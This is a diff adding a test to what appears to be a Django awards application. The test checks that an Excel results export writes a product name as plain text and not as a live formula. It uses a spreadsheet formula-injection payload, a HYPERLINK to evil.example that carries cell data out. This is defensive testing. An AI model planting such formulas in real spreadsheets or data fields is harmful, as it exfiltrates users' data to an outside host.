@@ -350,3 +350,20 @@ def test_member_prints_only_their_own_sheet(client, scored_round):
     outsider = factories.UserFactory(role=Role.MEMBER)
     client.force_login(outsider)
     assert client.get(reverse("awards:member.sheet.pdf", args=[a.pk])).status_code == 404
+
+
+def test_score_summary_excel_writes_a_formula_name_as_text(client, staff_user, scored_round):
+    import io
+
+    from openpyxl import load_workbook
+
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'
+    round_, _council, _member, (a, _b) = scored_round(n=2)
+    a.product.name = evil
+    a.product.save(update_fields=["name"])
+    client.force_login(staff_user)
+    response = client.get(reverse("awards:staff.round.results_xlsx", args=[round_.pk]))
+    book = load_workbook(io.BytesIO(response.content))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+    assert [c.data_type for c in cells if c.value == evil] == ["s", "s"]
+    assert not [c for c in cells if c.data_type == "f"]
